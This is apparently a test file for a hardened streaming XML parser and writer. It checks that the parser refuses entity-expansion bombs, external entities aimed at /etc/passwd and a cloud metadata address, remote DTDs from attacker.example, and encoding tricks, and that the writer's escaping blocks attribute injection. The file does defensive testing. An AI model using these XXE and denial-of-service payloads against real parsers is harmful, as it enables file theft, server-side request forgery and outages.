import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { emptyXmlElement, escapeXml, readXml, XML_DECLARATION, xmlElement, XmlRefused } from "./xml.ts";
import type { XmlLimits } from "./xml.ts";

async function* of(...chunks: (Uint8Array | string)[]) {
  yield* chunks;
}

/** Texts of all elements in closing order, and the token of the refusal if there was one. */
async function read(source: Uint8Array | string | AsyncIterable<Uint8Array | string>, limits?: XmlLimits) {
  const texts: Record<string, string>[] = [];
  const chunks = typeof source === "string" || source instanceof Uint8Array ? of(source) : source;
  try {
    for await (const item of readXml<Record<string, string>>(
      chunks,
      (emit) => ({ close: (element, text) => emit({ [element.name]: text, ...element.attributes }) }),
      limits,
    )) {
      texts.push(item);
    }
  } catch (error) {
    if (error instanceof XmlRefused) return { texts, refused: error.token, line: error.line };
    throw error;
  }
  return { texts };
}

async function within<T>(milliseconds: number, work: Promise<T>): Promise<T> {
  const started = performance.now();
  const result = await work;
  expect(performance.now() - started).toBeLessThan(milliseconds);
  return result;
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const utf16 = (text: string, bigEndian: boolean) => {
  const bytes = new Uint8Array(text.length * 2 + 2);
  const view = new DataView(bytes.buffer);
  [0xfeff, ...text.split("").map((c) => c.charCodeAt(0))].forEach((c, i) =>
    view.setUint16(i * 2, c, !bigEndian),
  );
  return bytes;
};

describe("refusing", () => {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
    "",
  );

  test("H40 billion laughs, quadratic blow-up, external entities, parameter entities and external DTDs", async () => {
    const documents = [
      `<!DOCTYPE a [<!ENTITY l0 "lol">${entities}]><a>&l9;</a>`,
      `<!DOCTYPE a [<!ENTITY q "${"q".repeat(50_000)}">]><a>${"&q;".repeat(10_000)}</a>`,
      `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
      `<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>`,
      `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><a/>`,
      `<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>`,
      `<!DOCTYPE a PUBLIC "-//X//Y" "http://attacker.example/a.dtd"><a/>`,
    ];
    for (const document of documents) {
      expect(await within(2_000, read(document))).toMatchObject({
        texts: [],
        refused: "xml_doctype_refused",
      });
    }
  });

  test("H40 a document type that never ends", async () => {
    const endless = (async function* () {
      yield "<!DOCTYPE a [";
      for (let i = 0; i < 10_000; i += 1) yield "<!ENTITY a 'b'>".repeat(1_000);
    })();
    expect(await within(2_000, read(endless))).toMatchObject({ refused: "xml_text_too_long" });
  });

  test("H40 an entity nobody defined", async () => {
    expect(await read("<a>&nbsp;</a>")).toMatchObject({ refused: "xml_not_well_formed" });
  });

  test("H40 depth 200,000, with and without namespaces", async () => {
    for (const open of ["<a>", '<p:a xmlns:p="urn:x">', '<a xmlns="urn:x">']) {
      expect(await within(2_000, read(open.repeat(200_000)))).toMatchObject({ refused: "xml_too_deep" });
    }
    expect(await read("<a>".repeat(32) + "</a>".repeat(32))).not.toHaveProperty("refused");
  });

  test("H40 100,000 attributes, and as many namespaces", async () => {
    for (const name of ["a", "xmlns:a"]) {
      const attributes = Array.from({ length: 100_000 }, (_, i) => `${name}${i}="urn:x"`).join(" ");
      expect(await within(2_000, read(`<a ${attributes}/>`))).toMatchObject({
        refused: "xml_too_many_attributes",
      });
    }
  });

  test("H40 two million character references", async () => {
    expect(await within(2_000, read(`<a>${"&#65;".repeat(2_000_000)}</a>`))).toMatchObject({
      refused: "xml_text_too_long",
    });
  });

  test("H40 text, comment, CDATA, attribute or name without end", async () => {
    for (const start of ["<a>", "<a><!--", "<a><![CDATA[", '<a b="', "<", "<?p ", "<a></"]) {
      const endless = (async function* () {
        yield start;
        for (let i = 0; i < 100_000; i += 1) yield "x".repeat(4_096);
      })();
      expect(await within(2_000, read(endless))).toMatchObject({ refused: "xml_text_too_long" });
    }
  });

  test("H40 text in many pieces is still one text", async () => {
    expect(await read(`<a>${"<b/>x<!-- -->".repeat(70_000)}</a>`)).toMatchObject({
      refused: "xml_text_too_long",
    });
  });

  test("H41 a document without end is cut at the byte limit", async () => {
    const endless = (async function* () {
      yield "<a>";
      for (;;) yield "<b>x</b>".repeat(1_000);
    })();
    const { refused } = await within(2_000, read(endless, { maxBytes: 1_000_000 }));
    expect(refused).toBe("xml_too_large");
  });

  test("H40 claims of UTF-16, UTF-7, EBCDIC and other encodings", async () => {
    const claims = [
      "UTF-16",
      "utf-7",
      "EBCDIC-CP-US",
      "IBM037",
      "utf-32",
      "x-user-defined",
      "big5",
      "nonsense",
    ];
    for (const claim of claims) {
      expect(await read(utf8(`<?xml version="1.0" encoding="${claim}"?><a/>`))).toEqual({
        texts: [],
        refused: "xml_encoding_refused",
        line: 1,
      });
    }
    const ebcdic = new Uint8Array([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40]);
    const utf7 = utf8("+/v8-+ADw-a+AD4-");
    const utf32 = new Uint8Array([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]);
    const withoutBom = utf16("<a/>", true).slice(2);
    const contradiction = utf16('<?xml version="1.0" encoding="UTF-8"?><a/>', false);
    for (const bytes of [ebcdic, utf7, utf32, withoutBom, contradiction]) {
      expect(await read(bytes)).toMatchObject({ refused: "xml_encoding_refused" });
    }
  });

  test("H13 NUL, controls, lone surrogates and broken or overlong UTF-8", async () => {
    for (const text of ["\u0000", "\u0001", "&#0;", "&#1;", "&#xFFFE;", "&#xD800;", "\uD800", "\uFFFF"]) {
      expect(await read(`<?xml version="1.1"?><a>${text}</a>`)).toMatchObject({
        refused: "xml_not_well_formed",
      });
    }
    const [start, end] = [utf8("<r><a>kept</a>\n<a>"), utf8("</a></r>")];
    for (const broken of [[0xc0, 0xaf], [0xff], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xe7, 0x8e]]) {
      const bytes = new Uint8Array([...start, ...broken, ...end]);
      expect(await read(bytes)).toMatchObject({
        texts: [{ a: "kept" }],
        refused: "xml_encoding_broken",
        line: 2,
      });
    }
    expect(await read(utf8("<a>王").subarray(0, 5))).toMatchObject({ refused: "xml_encoding_broken" });
  });

  test("everything before the fault is given first, and the fault has its line", async () => {
    const result = await read("<r>\n<a>1</a>\n<a>2</a>\n<a>3</b>\n<a>4</a></r>");
    expect(result).toEqual({ texts: [{ a: "1" }, { a: "2" }], refused: "xml_not_well_formed", line: 4 });
    expect(await read("")).toMatchObject({ refused: "xml_not_well_formed" });
    expect(await read("<a>1</a><b/>")).toMatchObject({ refused: "xml_not_well_formed" });
  });
});

describe("reading", () => {
  test("H40 an xml-stylesheet instruction and XInclude are inert", async () => {
    const { texts } = await read(
      '<?xml-stylesheet href="http://attacker.example/x.xsl"?><a>1<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></a>',
    );
    expect(texts[1]).toEqual({ a: "1" });
  });

  test("bytes in the encodings people have", async () => {
    const name = "José 王 𠮷";
    for (const bytes of [
      utf8(`<a>${name}</a>`),
      utf8(`\uFEFF<a>${name}</a>`),
      utf16(`<a>${name}</a>`, true),
    ]) {
      expect(await read(bytes)).toEqual({ texts: [{ a: name }] });
    }
    expect(await read(utf16(`<?xml version="1.0" encoding="UTF-16"?><a>${name}</a>`, false))).toEqual({
      texts: [{ a: name }],
    });
    for (const encoding of ["ISO-8859-1", "windows-1252", "latin1"]) {
      const bytes = Buffer.from(`<?xml version='1.0' encoding='${encoding}' ?><a>José\x80</a>`, "latin1");
      expect(await read(bytes)).toEqual({ texts: [{ a: "José€" }] });
    }
  });

  test("prefixes are resolved and prototype names are only names", async () => {
    const source = of('<x:a xmlns:x="urn:1"><a xmlns="urn:2" __proto__="1" constructor="2"/></x:a>');
    const opened: string[] = [];
    for await (const item of readXml<string>(source, (emit) => ({
      open: ({ namespace, name, depth, attributes }) =>
        emit(
          `${namespace} ${name} ${depth} ${attributes["__proto__"] ?? ""}${attributes["constructor"] ?? ""}`,
        ),
    }))) {
      opened.push(item);
    }
    expect(opened).toEqual(["urn:1 a 1 ", "urn:2 a 2 12"]);
  });

  test("where the chunks are cut does not matter", async () => {
    const document = `\uFEFF<?xml version="1.0"?>\r\n<r a="王"><a>𠮷 é\r\nx &amp; &#x1F600;</a><![CDATA[]]]]><!-- 王 --></r>`;
    const whole = await read(document);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom("utf-8", "utf-16"),
        fc.integer({ min: 1, max: 7 }),
        async (encoding, size) => {
          const bytes = encoding === "utf-8" ? utf8(document) : utf16(document.slice(1), true);
          const pieces = (async function* () {
            for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
          })();
          expect(await read(pieces)).toEqual(whole);
        },
      ),
    );
  });
});

describe("writing", () => {
  test("what was written is read, except for what XML cannot say", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary" }), async (text) => {
        const sayable = text.replace(
          /[\p{Surrogate}\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/gu,
          "",
        );
        const document = XML_DECLARATION + xmlElement("a", text, { b: text });
        expect(await read(utf8(document))).toEqual({ texts: [{ a: sayable, b: sayable }] });
      }),
    );
  });

  test("H3 markup cannot be closed from inside", () => {
    expect(escapeXml("]]></a><b>&\u0000")).toBe("]]&gt;&lt;/a&gt;&lt;b&gt;&amp;");
    expect(emptyXmlElement("link", { href: 'x" onload="' })).toBe('<link href="x&quot; onload=&quot;"/>');
  });
});
